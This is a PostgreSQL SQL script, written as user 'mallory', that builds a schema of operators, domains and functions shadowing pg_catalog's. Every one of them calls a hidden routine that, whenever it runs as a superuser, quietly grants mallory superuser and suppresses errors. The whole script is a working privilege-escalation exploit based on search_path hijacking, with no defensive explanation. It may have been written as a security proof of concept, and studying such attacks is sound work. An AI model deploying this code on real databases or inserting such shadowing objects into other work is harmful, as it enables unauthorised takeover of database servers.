-- as mallory, in her copy mc: schema m shadowing pg_catalog's operators,
-- some functions and type names with code that makes mallory a superuser
-- when it runs as one
CREATE SCHEMA m;
GRANT USAGE ON SCHEMA m TO PUBLIC;
CREATE TABLE m.hits (who name, what text, su boolean, at timestamptz DEFAULT pg_catalog.clock_timestamp());
GRANT INSERT, SELECT ON m.hits TO PUBLIC;
CREATE FUNCTION m.pwn(what text) RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog AS $$
DECLARE su boolean;
BEGIN
	SELECT rolsuper INTO su FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) current_user;
	BEGIN
		INSERT INTO m.hits(who, what, su) VALUES (current_user, what, su);
	EXCEPTION WHEN OTHERS THEN NULL;
	END;
	IF su THEN
		BEGIN
			EXECUTE 'ALTER ROLE mallory SUPERUSER';
		EXCEPTION WHEN OTHERS THEN NULL;
		END;
	END IF;
	RETURN true;
END $$;
DO $do$
DECLARE r record; n int := 0;
BEGIN
	FOR r IN
		SELECT o.oid, o.oprname, o.oprleft::regtype AS l, o.oprright::regtype AS r, o.oprresult::regtype AS res
		  FROM pg_catalog.pg_operator o
		 WHERE o.oprnamespace = 'pg_catalog'::regnamespace AND o.oprkind = 'b'
		   AND o.oprleft IN ('int8'::regtype, 'int4'::regtype, 'int2'::regtype, 'oid'::regtype, 'text'::regtype,
		                     'name'::regtype, 'timestamptz'::regtype, 'interval'::regtype, 'bool'::regtype,
		                     'jsonb'::regtype, 'float8'::regtype, 'numeric'::regtype, '"char"'::regtype, 'bytea'::regtype,
		                     'xid'::regtype, 'tid'::regtype, 'regproc'::regtype, 'json'::regtype, 'text[]'::regtype,
		                     'int8[]'::regtype, 'oid[]'::regtype, 'int4[]'::regtype, 'date'::regtype, 'timestamp'::regtype)
		   AND o.oprright NOT IN ('anyelement'::regtype, 'anyarray'::regtype, 'anynonarray'::regtype,
		                          'anycompatiblearray'::regtype, 'anycompatible'::regtype, 'anycompatiblenonarray'::regtype,
		                          'anymultirange'::regtype, 'anyrange'::regtype, 'internal'::regtype)
		   AND o.oprleft NOT IN ('anyelement'::regtype, 'anyarray'::regtype)
		   AND o.oprresult NOT IN ('internal'::regtype)
	LOOP
		n := n + 1;
		EXECUTE format($f$CREATE FUNCTION m.op_%s(a %s, b %s) RETURNS %s LANGUAGE plpgsql SET search_path = pg_catalog AS
			$b$BEGIN PERFORM m.pwn(%L); RETURN a OPERATOR(pg_catalog.%s) b; END$b$$f$,
			r.oid, r.l, r.r, r.res, 'op ' || r.l || ' ' || r.oprname || ' ' || r.r, r.oprname);
		EXECUTE format('CREATE OPERATOR m.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = m.op_%s)',
			r.oprname, r.l, r.r, r.oid);
	END LOOP;
	RAISE NOTICE 'shadowed % operators', n;
	-- unary
	FOR r IN SELECT o.oid, o.oprname, o.oprright::regtype AS r, o.oprresult::regtype AS res
		  FROM pg_catalog.pg_operator o
		 WHERE o.oprnamespace = 'pg_catalog'::regnamespace AND o.oprkind = 'l'
	LOOP
		EXECUTE format($f$CREATE FUNCTION m.op_%s(b %s) RETURNS %s LANGUAGE plpgsql SET search_path = pg_catalog AS
			$b$BEGIN PERFORM m.pwn(%L); RETURN OPERATOR(pg_catalog.%s) b; END$b$$f$,
			r.oid, r.r, r.res, 'op ' || r.oprname || ' ' || r.r, r.oprname);
		EXECUTE format('CREATE OPERATOR m.%s (RIGHTARG = %s, FUNCTION = m.op_%s)', r.oprname, r.r, r.oid);
	END LOOP;
	-- domains shadowing type names that are not keywords
	FOR r IN SELECT unnest(ARRAY['text','oid','jsonb','json','int8','int4','int2','interval','timestamptz','bool',
	                             'name','regrole','regproc','regprocedure','regclass','regtype','regnamespace','float8',
	                             'bytea','date','uuid','xid','tid','timestamp','inet','regoper','regoperator','oidvector']) AS t
	LOOP
		EXECUTE format('CREATE DOMAIN m.%I AS pg_catalog.%I CHECK (m.pwn(%L))', r.t, r.t, 'domain ' || r.t);
	END LOOP;
END $do$;
-- functions
CREATE FUNCTION m.now() RETURNS timestamptz LANGUAGE plpgsql STABLE SET search_path = pg_catalog AS 'BEGIN PERFORM m.pwn(''fn now''); RETURN pg_catalog.now(); END';
CREATE FUNCTION m.clock_timestamp() RETURNS timestamptz LANGUAGE plpgsql SET search_path = pg_catalog AS 'BEGIN PERFORM m.pwn(''fn clock_timestamp''); RETURN pg_catalog.clock_timestamp(); END';
CREATE FUNCTION m.statement_timestamp() RETURNS timestamptz LANGUAGE plpgsql STABLE SET search_path = pg_catalog AS 'BEGIN PERFORM m.pwn(''fn statement_timestamp''); RETURN pg_catalog.statement_timestamp(); END';
CREATE FUNCTION m.length(t text) RETURNS int LANGUAGE plpgsql SET search_path = pg_catalog AS 'BEGIN PERFORM m.pwn(''fn length''); RETURN pg_catalog.length(t); END';
CREATE FUNCTION m.lower(t text) RETURNS text LANGUAGE plpgsql SET search_path = pg_catalog AS 'BEGIN PERFORM m.pwn(''fn lower''); RETURN pg_catalog.lower(t); END';
CREATE FUNCTION m.to_jsonb(t anyelement) RETURNS jsonb LANGUAGE plpgsql SET search_path = pg_catalog AS 'BEGIN PERFORM m.pwn(''fn to_jsonb''); RETURN pg_catalog.to_jsonb(t); END';
CREATE FUNCTION m.array_length(a anyarray, d int) RETURNS int LANGUAGE plpgsql SET search_path = pg_catalog AS 'BEGIN PERFORM m.pwn(''fn array_length''); RETURN pg_catalog.array_length(a, d); END';
CREATE FUNCTION m.cardinality(a anyarray) RETURNS int LANGUAGE plpgsql SET search_path = pg_catalog AS 'BEGIN PERFORM m.pwn(''fn cardinality''); RETURN pg_catalog.cardinality(a); END';
CREATE FUNCTION m.left(t text, n int) RETURNS text LANGUAGE plpgsql SET search_path = pg_catalog AS 'BEGIN PERFORM m.pwn(''fn left''); RETURN pg_catalog.left(t, n); END';
CREATE FUNCTION m.jsonb_typeof(j jsonb) RETURNS text LANGUAGE plpgsql SET search_path = pg_catalog AS 'BEGIN PERFORM m.pwn(''fn jsonb_typeof''); RETURN pg_catalog.jsonb_typeof(j); END';
CREATE FUNCTION m.txid_current() RETURNS bigint LANGUAGE plpgsql SET search_path = pg_catalog AS 'BEGIN PERFORM m.pwn(''fn txid_current''); RETURN pg_catalog.txid_current(); END';
CREATE FUNCTION m.pg_backend_pid() RETURNS int LANGUAGE plpgsql SET search_path = pg_catalog AS 'BEGIN PERFORM m.pwn(''fn pg_backend_pid''); RETURN pg_catalog.pg_backend_pid(); END';
CREATE FUNCTION m.random() RETURNS float8 LANGUAGE plpgsql SET search_path = pg_catalog AS 'BEGIN PERFORM m.pwn(''fn random''); RETURN pg_catalog.random(); END';
CREATE FUNCTION m.greatest_fn() RETURNS int LANGUAGE sql AS 'SELECT 1';
CREATE FUNCTION m.upper(t text) RETURNS text LANGUAGE plpgsql SET search_path = pg_catalog AS 'BEGIN PERFORM m.pwn(''fn upper''); RETURN pg_catalog.upper(t); END';
CREATE FUNCTION m.abs(n bigint) RETURNS bigint LANGUAGE plpgsql SET search_path = pg_catalog AS 'BEGIN PERFORM m.pwn(''fn abs''); RETURN pg_catalog.abs(n); END';
CREATE FUNCTION m.date_trunc(u text, t timestamptz) RETURNS timestamptz LANGUAGE plpgsql STABLE SET search_path = pg_catalog AS 'BEGIN PERFORM m.pwn(''fn date_trunc''); RETURN pg_catalog.date_trunc(u, t); END';
CREATE FUNCTION m.extract(u text, t timestamptz) RETURNS numeric LANGUAGE plpgsql STABLE SET search_path = pg_catalog AS 'BEGIN PERFORM m.pwn(''fn extract''); RETURN pg_catalog.extract(u, t); END';
CREATE FUNCTION m.hashtext(t text) RETURNS int LANGUAGE plpgsql SET search_path = pg_catalog AS 'BEGIN PERFORM m.pwn(''fn hashtext''); RETURN pg_catalog.hashtext(t); END';
CREATE FUNCTION m.pg_advisory_xact_lock(k bigint) RETURNS void LANGUAGE plpgsql SET search_path = pg_catalog AS 'BEGIN PERFORM m.pwn(''fn pg_advisory_xact_lock''); PERFORM pg_catalog.pg_advisory_xact_lock(k); END';
CREATE FUNCTION m.pg_try_advisory_xact_lock(k bigint) RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog AS 'BEGIN PERFORM m.pwn(''fn pg_try_advisory_xact_lock''); RETURN pg_catalog.pg_try_advisory_xact_lock(k); END';
CREATE FUNCTION m.format(f text, VARIADIC a text[]) RETURNS text LANGUAGE plpgsql SET search_path = pg_catalog AS 'BEGIN PERFORM m.pwn(''fn format''); RETURN pg_catalog.format(f, VARIADIC a); END';
CREATE FUNCTION m.string_to_array(a text, b text) RETURNS text[] LANGUAGE plpgsql SET search_path = pg_catalog AS 'BEGIN PERFORM m.pwn(''fn string_to_array''); RETURN pg_catalog.string_to_array(a,b); END';
